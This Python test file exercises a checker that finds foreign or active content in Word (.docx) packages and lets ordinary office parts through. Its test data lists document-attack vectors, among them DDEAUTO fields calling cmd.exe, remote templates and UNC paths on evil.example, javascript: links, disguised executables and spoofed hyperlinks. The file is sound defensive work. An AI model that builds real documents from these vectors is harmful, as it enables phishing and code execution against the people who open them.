"""What may not be in a document is found wherever it hides, and what offices use is let through."""

import struct
from collections.abc import Mapping

from generator.formats.docx.package import allowed
from generator.formats.docx.package.foreign import foreign
from generator.formats.docx.package.part_names import DOCUMENT, OFFICE, TYPES, W
from tests.few import each
from tests.formats.docx import templates
from tests.packages import package
from tests.samples import workbook

RELATION = f"{OFFICE}/relationships"
SPACES = (
    f'xmlns:r="{RELATION}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SMALL = {
    TYPES: (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="'
        'application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/></Types>'
    ),
    DOCUMENT: f'<w:document xmlns:w="{W[1:-1]}"><w:body></w:body></w:document>',
    "word/settings.xml": f'<w:settings xmlns:w="{W[1:-1]}"></w:settings>',
    "word/header1.xml": f'<w:hdr xmlns:w="{W[1:-1]}"></w:hdr>',
    "docProps/app.xml": "<Properties></Properties>",
}
"""As little as a package needs to be looked through."""
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR rest IEND\xaeB`\x82"
BODY = "<w:body>"


def changed_parts(old: str, new: str, part: str = DOCUMENT) -> dict[str, bytes]:
    """Return a small document with one text of a part replaced."""
    assert old in SMALL[part]
    changed = {**SMALL, part: SMALL[part].replace(old, new)}
    return {name: content.encode() for name, content in changed.items()}


def said(found: Mapping[str, bytes]) -> str:
    return "\n".join(map(str, foreign(found, "模板.docx")))


def with_part(name: str, kind: str, content: bytes) -> dict[str, bytes]:
    """Return a document with one more part of a kind."""
    announced = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    return {**changed_parts("</Types>", announced, TYPES), name: content}


def with_relation(
    kind: str, target: str, content: str = "", *, of: str = "document", outside: bool = True
) -> dict[str, bytes]:
    """Return a document with a relation of the document, or of settings, and what uses it."""
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="out" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    changed = changed_parts(BODY, f"{BODY}<w:p {SPACES}>{content}</w:p>")
    relations = f"word/_rels/{of}.xml.rels"
    usual = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    there = changed.get(relations, usual).decode()
    return {**changed, relations: there.replace("</Relationships>", one).encode()}


def with_content(content: str, part: str = DOCUMENT) -> dict[str, bytes]:
    """Return a document with something in a paragraph before all others."""
    if part == DOCUMENT:
        return changed_parts(BODY, f"{BODY}<w:p {SPACES}>{content}</w:p>")
    end = f"</w:{part.removeprefix('word/').removesuffix('.xml')}>"
    return changed_parts(end, content + end, part)


def field(*pieces: str, result: str = "") -> str:
    """Return a field whose code is in several runs."""
    code = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"{mark('begin')}{code}{mark('separate')}{result}{mark('end')}"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def words(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def test_the_official_template_has_nothing_foreign() -> None:
    assert foreign(templates.parts(), "模板.docx") == []


@each(
    "name, kind, content, called",
    [
        ("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0", "宏"),
        ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"<a/>", "ActiveX"),
        (
            "word/embeddings/oleObject1.bin",
            "application/vnd.openxmlformats-officedocument.oleObject",
            b"\xd0\xcf\x11\xe0",
            "OLE",
        ),
        ("word/glossary/document.xml", f"{WORD}.document.glossary+xml", b"<a/>", "构建基块"),
        ("word/printerSettings1.bin", f"{WORD}.printerSettings", b"x", "打印机设置"),
        ("word/media/image1.svg", "image/svg+xml", b"<svg/>", "SVG 图片"),
        (
            "word/webextensions/webextension1.xml",
            "application/vnd.ms-office.webextension+xml",
            b"<a/>",
            "加载项",
        ),
        ("customUI/customUI.xml", "application/vnd.ms-office.customUI+xml", b"<a/>", "customUI"),
        ("word/afchunk.mht", "message/rfc822", b"MIME-Version: 1.0", "message/rfc822"),
        ("word/setup.exe", "application/octet-stream", b"MZ", "application/octet-stream"),
        ("word/media/image1.png", "image/png", b"MZ\x90", "冒充“image/png”"),
        ("word/media/image1.png", "image/png", PNG[:8] + b"MZ\x90", "冒充“image/png”"),
        ("word/media/image1.png", "image/png", PNG[:-8], "冒充“image/png”"),
        ("word/media/image1.emf", "image/x-emf", b"MZ\x90", "冒充“image/x-emf”"),
        ("word/fonts/font1.odttf", allowed.FONT_IN_DISGUISE, b"MZ\x90", "冒充"),
        ("word/embeddings/a.xlsx", allowed.EMBEDDED_WORKBOOK, b"MZ\x90", "冒充"),
        ("word/embeddings/a.xlsx", allowed.EMBEDDED_WORKBOOK, b"PK\x03\x04", "打不开的图表数据"),
    ],
)
def test_a_part_of_another_kind_or_that_lies_is_named(
    name: str, kind: str, content: bytes, called: str
) -> None:
    found = said(with_part(name, kind, content))
    assert called in found
    assert name in found


@each(
    "name, kind, content",
    [
        ("word/media/image1.png", "image/png", PNG),
        ("word/media/image1.jpeg", "image/jpeg", b"\xff\xd8\xff\xe0"),
        ("word/media/image1.emf", "image/x-emf", struct.pack("<II", 1, 108)),
        ("word/media/image1.wmf", "image/x-wmf", b"\xd7\xcd\xc6\x9a\0\0"),
        ("word/fonts/font1.odttf", allowed.FONT_IN_DISGUISE, b"\x81\x12\x33"),
        ("word/theme/theme1.xml", WORD.replace("wordprocessingml", "theme+xml"), b"<a/>"),
        ("word/footnotes.xml", f"{WORD}.footnotes+xml", b"<a/>"),
        ("word/comments.xml", f"{WORD}.comments+xml", b"<a/>"),
        ("word/embeddings/a.xlsx", allowed.EMBEDDED_WORKBOOK, workbook()),
    ],
)
def test_what_offices_use_is_let_through(name: str, kind: str, content: bytes) -> None:
    assert said(with_part(name, kind, content)) == ""


@each(
    "kind, target",
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("attachedTemplate", "file:///\\\\evil.example\\t.dotm"),
        ("image", "http://evil.example/p.png"),
        ("oleObject", "file:///c:/x.xls"),
        ("subDocument", "other.docx"),
        ("aFChunk", "http://evil.example/x.html"),
        ("frame", "http://evil.example/"),
        ("mailMergeSource", "file:///c:/list.xlsx"),
        ("externalLinkPath", "file:///c:/x.xlsx"),
        ("hyperlink", "file:///c:/x.exe"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "JavaScript:alert(1)"),
        ("hyperlink", "\\\\evil.example\\share"),
        ("hyperlink", "附件.docx"),
        ("hyperlink", "http:\\\\evil.example"),
    ],
)
def test_what_leads_outside_is_named_with_where_it_leads(kind: str, target: str) -> None:
    for of in ("document", "settings", "header1", "webSettings"):
        assert f"指向 {target}" in said(with_relation(f"{RELATION}/{kind}", target, of=of))


@each("target", ["https://www.gov.cn/", "HTTP://www.gov.cn/年报?a=1&amp;b=2", "mailto:a@b.cn"])
def test_web_links_that_people_see_are_let_through(target: str) -> None:
    seen = '<w:hyperlink r:id="out"><w:r><w:t>网址</w:t></w:r></w:hyperlink>'
    assert said(with_relation(f"{RELATION}/hyperlink", target, seen)) == ""


@each(
    "content",
    [
        '<a:blip r:link="out"/>',
        '<a:blip r:embed="out"/>',
        '<v:imagedata r:href="out"/>',
        '<v:fill r:id="out"/>',
        '<w:sdt r:id="out"/>',
    ],
)
def test_a_picture_cannot_pass_for_a_link(content: str) -> None:
    found = said(with_relation(f"{RELATION}/hyperlink", "http://evil.example/p.png", content))
    assert "指向 http://evil.example/p.png" in found


@each(
    "kind, called",
    [
        ("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "功能区"),
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "宏"),
        (f"{RELATION}/glossaryDocument", "构建基块"),
        (f"{RELATION}/control", "ActiveX"),
        (f"{RELATION}/某某", "某某"),
    ],
)
def test_a_relation_within_that_is_not_known_is_named(kind: str, called: str) -> None:
    assert called in said(with_relation(kind, "styles.xml", outside=False))


@each(
    "content, called",
    [
        ('<w:altChunk r:id="x"/>', "altChunk"),
        ('<w:subDoc r:id="x"/>', "子文档"),
        ('<w:r><w:object><o:OLEObject Type="Embed"/></w:object></w:r>', "OLE"),
        ('<w:control r:id="x"/>', "ActiveX"),
        ('<w:ffData><w:entryMacro w:val="x"/></w:ffData>', "宏"),
        ('<v:imagedata src="http://evil.example/p.png"/>', "指向 http://evil.example/p.png"),
        ('<v:imagedata o:althref="\\\\evil.example\\p"/>', "指向 \\\\evil.example\\p"),
        ('<v:shape href="javascript:alert(1)"/>', "指向 javascript:alert(1)"),
        ('<w:sdtPr><w:dataBinding w:storeItemID="{X}"/></w:sdtPr>', "隐藏数据"),
        ("<w:webVideoPr/>", "联机视频"),
        ('<v:imagedata o:href="http://evil.example/p.png"/>', "指向 http://evil.example/p.png"),
        ('<v:fill o:href="https://evil.example/p.png"/>', "指向 https://evil.example/p.png"),
        (
            '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="http://evil.example/"/>',
            "指向 http://evil.example/",
        ),
        ('<a:hlinkClick action="ppaction://program?file=c:\\x.exe"/>', "ppaction://program"),
        ('<w:attachedSchema w:val="http://evil.example/s"/>', "附加的 XML 架构"),
    ],
)
def test_an_element_that_acts_is_named(content: str, called: str) -> None:
    assert called in said(with_content(content))


@each(
    "content, called",
    [
        ('<w:attachedTemplate r:id="x" xmlns:r="urn:r"/>', "附加的模板"),
        ("<w:mailMerge/>", "邮件合并"),
        ("<w:linkStyles/>", "自动更新文档样式"),
        ("<w:saveThroughXslt/>", "转换文件"),
    ],
)
def test_a_setting_that_acts_is_named(content: str, called: str) -> None:
    assert called in said(with_content(content, "word/settings.xml"))


def test_a_part_is_looked_through_whatever_it_is_called() -> None:
    acting = f'<w:hdr xmlns:w="{W[1:-1]}"><w:altChunk/></w:hdr>'.encode()
    for name, kind in (
        ("word/header2.XML", f"{WORD}.header+xml"),
        ("word/header2", f"{WORD}.header+xml"),
        ("customXml/item1.xml", f"{WORD}.header+xml"),
        ("customXml/item1.xml", "application/xml"),
    ):
        assert "altChunk" in said(with_part(name, kind, acting))
    data = b'<object src="http://x.example/"><control/></object>'
    assert said(with_part("customXml/item1.xml", "application/xml", data)) == ""


def test_a_base_for_links_is_named_unless_it_is_empty() -> None:
    for text, due in (("", False), ("file://evil/", True)):
        base = f"<HyperlinkBase>{text}</HyperlinkBase></Properties>"
        found = said(changed_parts("</Properties>", base, "docProps/app.xml"))
        assert ("超链接基础" in found) is due


FETCHING = [
    'INCLUDETEXT "http://evil.example/x.docx"',
    'INCLUDEPICTURE "http://evil.example/p.png" \\d',
    "DDEAUTO c:\\\\windows\\\\cmd.exe",
    "dde Excel x",
    "LINK Excel.Sheet.8 x",
    "IMPORT x",
    "DATABASE \\d x",
    "MACROBUTTON x y",
    "RD x.docx",
    "MERGEFIELD 姓名",
    "IF 1=1 a b",
    "",
    '"DDE" x',
    'HYPERLINK "file:///c:/x.exe"',
    'HYPERLINK \\o "提示" "javascript:alert(1)"',
    "HYPERLINK “http://evil.example”",
    "HYPERLINK",
]
TELLING = ["XE 内部电话12345", "TC 内部电话12345 \\l 1", "FILENAME \\* MERGEFORMAT \\P"]
"""Entries of an index that nobody sees, and the folder of whoever wrote the document."""


@each("code", FETCHING + TELLING)
def test_a_field_that_fetches_or_runs_is_named_with_its_code(code: str) -> None:
    escaped = code.replace('"', "&quot;")
    for content in (
        field(code),
        field(code[:3], code[3:]),
        f'<w:fldSimple w:instr="{escaped}"/>',
        f'<w:hdr><w:p><w:fldSimple w:instr="{escaped}"/></w:p></w:hdr>',
    ):
        assert f"域“{code}”" in said(with_content(content))


def test_a_code_that_another_field_makes_up_is_seen_as_what_it_is() -> None:
    inner = field("QUOTE 68 68 69")
    assert "域“QUOTE 68 68 69”" in said(with_content(field(f"</w:instrText>{inner}<w:instrText>")))
    computed = field(f"HYPERLINK </w:instrText>{field(' REF 书签 ')}<w:instrText>")
    assert "不是网页或邮箱的链接（域“HYPERLINK”）" in said(with_content(computed))


@each(
    "code",
    [
        " PAGE  \\* MERGEFORMAT ",
        "numpages",
        'TOC \\o "1-3" \\h \\z \\u',
        " REF 书签 \\h",
        "SEQ 表 \\* ARABIC",
        'STYLEREF "标题 1"',
        "= 1 + 1",
        "FILENAME",
        'HYPERLINK "https://www.gov.cn/"',
        'HYPERLINK \\l "书签"',
        'HYPERLINK "mailto:a@b.cn" \\o "写信"',
    ],
)
def test_fields_of_office_documents_are_let_through(code: str) -> None:
    escaped = code.replace('"', "&quot;")
    shown = words("见这里")
    assert said(with_content(field(code[:4], code[4:], result=shown))) == ""
    assert said(with_content(f'<w:fldSimple w:instr="{escaped}">{shown}</w:fldSimple>')) == ""


def test_text_in_the_place_of_a_code_is_read_as_code() -> None:
    page = "<w:r><w:instrText>PAGE</w:instrText></w:r>"
    for middle in (mark("separate") + words("1") + mark("end"), mark("end"), ""):
        content = mark("begin") + words("INCLUDEPICTURE x ") + page + middle
        assert "域“INCLUDEPICTURE x PAGE”" in said(with_content(content))


def test_text_in_the_code_of_a_field_is_named_though_the_field_may_be_there() -> None:
    inside = "<w:r><w:instrText>PAGE </w:instrText></w:r>"
    content = mark("begin") + inside + words("某") + mark("separate") + words("1") + mark("end")
    assert "代码里夹着正文的域“PAGE 某”" in said(with_content(content))
    nested = field("TOC ", result=words("一、") + field("PAGEREF a", result=words("3")))
    assert said(with_content(nested)) == ""


ADDRESSES = [
    ("http://evil.example/", "www.shcn.gov.cn", "却指向别处"),
    ("http://evil.example/", "详见 https://www.shcn.gov.cn/年报", "却指向别处"),
    ("https://shcn.gov.cn.evil.example/", "shcn.gov.cn", "却指向别处"),
    ("mailto:x@evil.example", "xxgk@shcn.gov.cn", "却指向别处"),
    ("http://evil.example/", "xxgk@shcn.gov.cn", "却指向别处"),
    ("http://evil.example/", "", "没有文字的链接"),
    ("http://evil.example/", " ", "没有文字的链接"),
    ("http://www.gov.cn@evil.example/", "国务院", "不是网页或邮箱的链接"),
    ("http://www.gov.cn%40evil.example/", "国务院", "不是网页或邮箱的链接"),
    ("https://evil.example/a.exe", "下载", "不是网页或邮箱的链接"),
    ("https://evil.example/a.SCR?x=1#y", "下载", "不是网页或邮箱的链接"),
    ("https://evil.example/a.v%62s", "下载", "不是网页或邮箱的链接"),
    ("http://[evil/", "下载", "不是网页或邮箱的链接"),
    ("https://www.shcn.gov.cn/", "www.shcn.gov.cn", ""),
    ("https://WWW.shcn.gov.cn/a", "http://shcn.gov.cn", ""),
    ("https://zwgk.shcn.gov.cn/a", "www.shcn.gov.cn", ""),
    ("https://www.shcn.gov.cn/a/年报.docx", "2023年报.docx", ""),
    ("https://www.shcn.gov.cn/@a", "办事指南 3.2", ""),
    ("mailto:xxgk@shcn.com", "电子邮箱：xxgk@shcn.com", ""),
    ("mailto:xxgk@shcn.gov.cn?subject=年报", "写信", ""),
]


@each("target, text, called", ADDRESSES)
def test_a_link_is_what_it_seems_to_be(target: str, text: str, called: str) -> None:
    shown = words(text)
    linked = f'<w:hyperlink r:id="out">{shown}</w:hyperlink>'
    code = f'HYPERLINK "{target}"'
    for found in (
        said(with_relation(f"{RELATION}/hyperlink", target, linked)),
        said(with_content(field(code, result=shown))),
        said(with_content(f"<w:fldSimple w:instr='{code}'>{shown}</w:fldSimple>")),
    ):
        assert (called in found) if called else found == ""


def test_a_link_of_a_picture_needs_no_text() -> None:
    drawn = '<w:hyperlink r:id="out"><w:r><w:drawing/></w:r></w:hyperlink>'
    assert said(with_relation(f"{RELATION}/hyperlink", "https://www.gov.cn/", drawn)) == ""
    assert said(with_content('<w:pict><v:shape href="https://www.gov.cn/"/></w:pict>')) == ""


def test_the_workbook_of_a_chart_is_looked_into() -> None:
    book = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="xml" ContentType="{book}.sheet.main+xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Default Extension="rels" ContentType="'
        'application/vnd.openxmlformats-package.relationships+xml"/></Types>'
    )
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="a" Type="{RELATION}/externalLinkPath" Target="file:///c:/x.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    inside = {
        TYPES: types.encode(),
        "xl/workbook.xml": b"<workbook><f>_xlfn.WEBSERVICE(1)</f></workbook>",
        "xl/vbaProject.bin": b"x",
        "xl/_rels/workbook.xml.rels": relations.encode(),
    }
    content = package(inside)
    found = said(with_part("word/embeddings/a.xlsx", allowed.EMBEDDED_WORKBOOK, content))
    assert "图表数据里的宏" in found
    assert "图表数据里的链接到别的工作簿（指向 file:///c:/x.xlsx）" in found
    assert "图表数据里会取外部数据的公式" in found
    broken = content[:100]
    found = said(with_part("word/embeddings/a.xlsx", allowed.EMBEDDED_WORKBOOK, broken))
    assert found == "打不开的图表数据（内部文件 word/embeddings/a.xlsx）"


def test_what_cannot_be_read_does_not_belong_either() -> None:
    for part in ("word/settings.xml", TYPES):
        broken = {**changed_parts("", ""), part: b"<"}
        assert [str(one) for one in foreign(broken, "")] == [f"读不出来的内容（内部文件 {part}）"]
    assert foreign({"word/document.xml": b"<a/>"}, "") == []
